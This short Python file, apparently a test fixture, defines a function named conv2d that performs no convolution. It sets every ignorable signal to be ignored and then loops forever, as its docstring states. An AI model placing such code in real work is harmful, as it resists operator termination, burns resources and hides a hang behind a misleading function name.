"""Loops, and ignores every signal that can be ignored."""

import signal


def conv2d(x, kernel, stride=1, padding=0):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass
